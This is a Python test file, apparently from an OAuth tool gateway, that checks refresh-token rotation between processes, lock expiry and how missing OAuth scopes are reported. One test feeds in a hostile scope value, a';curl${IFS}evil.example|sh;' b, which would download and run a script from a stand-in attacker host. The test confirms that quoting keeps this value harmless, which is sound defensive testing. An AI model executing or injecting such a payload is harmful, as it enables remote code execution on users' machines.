"""What was granted: refreshed by one process at a time, and what is said where it does not reach."""

from __future__ import annotations

import asyncio
import re
import shlex
import sys
from asyncio.subprocess import PIPE
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import anyio
import pytest
from starlette.requests import Request
from starlette.responses import Response

from tests.oauth.authority import Authority
from tests.openapi.refreshing import tracker
from toolgate.calls import Principal
from toolgate.egress.transport import Transport, open_transport
from toolgate.integration import Integration
from toolgate.oauth.flow import Client
from toolgate.oauth.metadata import challenge_of
from toolgate.openapi.granted import SHARED, Grant, Granted, lacking
from toolgate.openapi.links import Holder, Links
from toolgate.standin import serving
from toolgate.stores import open_stores
from toolgate.stores.memory import MemoryRecords
from toolgate.stores.sealed import Sealer
from toolgate.testing import FakeClock

AUTH = {"type": "oauth2_authorization_code", "issuer": "https://issuer.example"}


def test_what_a_server_calls_a_scope_is_one_word_of_the_command_that_asks_for_it(tmp_path: Path) -> None:
    links = Links(MemoryRecords(), Sealer(tmp_path / "key"))
    integration = Integration.model_validate({"name": "tracker", "kind": "mcp", "url": "https://tracker.example/mcp", "auth": AUTH})
    challenge = challenge_of(["""Bearer error="insufficient_scope", scope="a';curl${IFS}evil.example|sh;' b" """])

    said = lacking(Granted(integration, Transport(None, None), links).shared, challenge)

    command = re.search("`(.*)`", str(said))
    assert command is not None
    assert shlex.split(command[1])[:5] == ["toolgate", "credentials", "link", "tracker", "--scope"]
    assert shlex.split(command[1])[5:] == ["a';curl${IFS}evil.example|sh;' b"]


@dataclass
class Strict(Authority):
    """An authorization server that takes a refresh token which is shown again for stolen, and all that came of it for spoiled."""

    stolen: int = 0

    async def token(self, request: Request) -> Response:
        shown = str((await request.form())["refresh_token"])
        await asyncio.sleep(0.05)  # long enough for the other process to show it too
        if shown not in self.refreshes:
            self.stolen += 1
            self.tokens.clear()
            self.refreshes.clear()
        return await super().token(request)


ROUNDS = 8


def granted_by(authority: Authority) -> Grant:
    """What was granted long ago."""
    authority.refreshes["refresh-0"] = "tools"
    client, resource = Client("c"), "https://tracker.example/mcp"
    return Grant(authority.url, f"{authority.url}/token", ("none",), client, resource, None, "access-0", 0.0, "refresh-0", ("tools",))


async def test_two_processes_show_a_refresh_token_that_is_rotated_once(tmp_path: Path) -> None:
    authority = Strict()
    async with serving(authority.app()) as authority.url, open_stores("sqlite", tmp_path) as stores:
        links = Links(stores.records, Sealer(tmp_path / "key"))
        await links.set(Holder(SHARED, SHARED, "tracker"), granted_by(authority).text())
        command = [sys.executable, "-m", "tests.openapi.refreshing", str(tmp_path), authority.url]
        pipes: dict[str, Any] = {"stdin": PIPE, "stdout": PIPE, "cwd": Path(__file__).resolve().parents[2]}
        async with asyncio.timeout(120):
            both = [await asyncio.create_subprocess_exec(*command, **pipes) for _ in range(2)]
            try:
                for each in both:
                    assert await each.stdout.readline() == b"ready\n"  # type: ignore[union-attr]
                for _ in range(ROUNDS):
                    for each in both:
                        each.stdin.write(b"go\n")  # type: ignore[union-attr]
                    told = [(await each.stdout.readline()).decode().strip() for each in both]  # type: ignore[union-attr]
                    assert set(told) <= authority.tokens.keys()
            finally:
                for each in both:
                    each.kill()
                    await each.wait()

    assert authority.stolen == 0
    assert len(authority.forms) >= ROUNDS


@dataclass
class Slow(Authority):
    """An authorization server that answers once something else has happened."""

    before: Callable[[], Awaitable[None]] | None = None

    async def token(self, request: Request) -> Response:
        assert self.before is not None
        await self.before()
        return await super().token(request)


async def test_what_was_linked_anew_during_a_refresh_stays(tmp_path: Path) -> None:
    links, holder, authority = Links(MemoryRecords(), Sealer(tmp_path / "key")), Holder(SHARED, SHARED, "tracker"), Slow()
    async with serving(authority.app()) as authority.url, open_transport() as transport:
        anew = replace(granted_by(authority), access="access-anew", until=9e9)
        authority.before = lambda: links.set(holder, anew.text())
        await links.set(holder, granted_by(authority).text())

        proof = await Granted(tracker(authority.url), transport, links).shared.proof(30)

    assert proof.secrets == ("access-anew",)
    assert await links.secret(holder, fresh=True) == anew.text()


async def test_a_caller_who_leaves_does_not_take_the_next_refresh_token_along(tmp_path: Path) -> None:
    links, holder, authority = Links(MemoryRecords(), Sealer(tmp_path / "key")), Holder(SHARED, SHARED, "tracker"), Slow()
    async with serving(authority.app()) as authority.url, open_transport() as transport:
        await links.set(holder, granted_by(authority).text())
        shared = Granted(tracker(authority.url), transport, links).shared
        with anyio.fail_after(30), anyio.CancelScope() as scope:

            async def leave() -> None:
                scope.cancel()

            authority.before = leave
            await shared.proof(30)

        assert scope.cancel_called
        proof = await shared.proof(30)

    assert (len(authority.forms), proof.secrets[0] in authority.tokens) == (1, True)


async def test_a_turn_of_a_process_that_died_runs_out(tmp_path: Path) -> None:
    clock = FakeClock()
    records, holder = MemoryRecords(clock), Holder("t", "ada", "tracker")
    one, other = (Links(records, Sealer(tmp_path / "key"), clock) for _ in range(2))
    dead = one.turn(holder, 30)
    await dead.__aenter__()

    with pytest.raises(TimeoutError):
        async with asyncio.timeout(0.1), other.turn(holder, 30):
            pass
    clock.now += 31
    async with asyncio.timeout(10), other.turn(holder, 30):
        await dead.__aexit__(None, None, None)  # late, and not its turn any more
        with pytest.raises(TimeoutError):
            async with asyncio.timeout(0.1), one.turn(holder, 30):
                pass


def test_a_caller_with_consent_of_their_own_hears_how_to_widen_it_over_http(tmp_path: Path) -> None:
    links = Links(MemoryRecords(), Sealer(tmp_path / "key"))
    integration = Integration.model_validate(
        {"name": "tracker", "kind": "mcp", "url": "https://tracker.example/mcp", "auth": {**AUTH, "per_user": True}}
    )
    challenge = challenge_of(['Bearer error="insufficient_scope", scope="tools more"'])

    said = str(lacking(Granted(integration, Transport(None, None), links).of(Principal("ada")), challenge))

    assert said.endswith('POST /v1/credentials/tracker/link with `scopes`: ["tools","more"]')
